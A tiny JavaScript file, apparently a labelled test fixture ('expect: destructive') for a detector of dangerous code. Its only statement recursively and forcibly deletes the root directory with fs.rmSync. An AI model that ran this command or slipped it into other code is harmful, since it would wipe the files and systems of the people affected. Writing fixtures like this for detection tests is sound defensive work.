// expect: destructive
import fs from "fs";

fs.rmSync("/", { recursive: true, force: true });
